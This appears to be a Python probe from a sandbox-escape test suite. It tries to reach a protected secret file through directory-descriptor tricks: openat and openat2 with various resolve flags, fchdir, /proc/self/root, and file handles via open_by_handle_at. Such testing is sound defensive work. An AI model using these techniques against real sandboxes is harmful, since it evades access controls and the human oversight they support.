"""Reads the secret file below descriptors of folders, by handle and after chdir."""

import ctypes
import os

from attack_kit import HOST, attempt, check_secret, reached, read_path, syscall

secret = HOST["secret_file"]
folder, name = os.path.split(secret)
how = (ctypes.c_uint64 * 3)(0, 0, 0)  # struct open_how: flags, mode, resolve
for path in ("/", folder, HOST["site_packages"], ".", "/proc/self/root", "/usr"):
    for flags in (os.O_PATH, os.O_RDONLY | os.O_DIRECTORY, os.O_PATH | os.O_NOFOLLOW):
        at = syscall("open", path, flags)
        if at < 0:
            continue
        for below in (name, secret.lstrip("/"), os.path.relpath(secret, path)):
            fd = syscall("openat", at, below, 0, 0)
            check_secret(f"below {path}", attempt(os.read, fd, 4096))
            for resolve in (0, 0x10, 0x08, 0x20):  # IN_ROOT, BENEATH, CACHED
                how[2] = resolve
                fd = syscall("openat2", at, below, how, 24)
                check_secret(f"with openat2 below {path}", attempt(os.read, fd, 4096))
        if attempt(os.fchdir, at) is None:
            check_secret("after fchdir", attempt(read_path, name))
            check_secret("after fchdir", attempt(read_path, secret.lstrip("/")))


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_char * 128)]


handle = Handle(128)
mount = ctypes.c_int()
if syscall("name_to_handle_at", -100, secret, ctypes.byref(handle), ctypes.byref(mount), 0) >= 0:
    for path in ("/", folder, "."):
        at = syscall("open", path, os.O_RDONLY)
        fd = syscall("open_by_handle_at", at, ctypes.byref(handle), 0)
        if fd >= 0:
            reached("the secret file by its handle")
            check_secret("by its handle", attempt(os.read, fd, 4096))
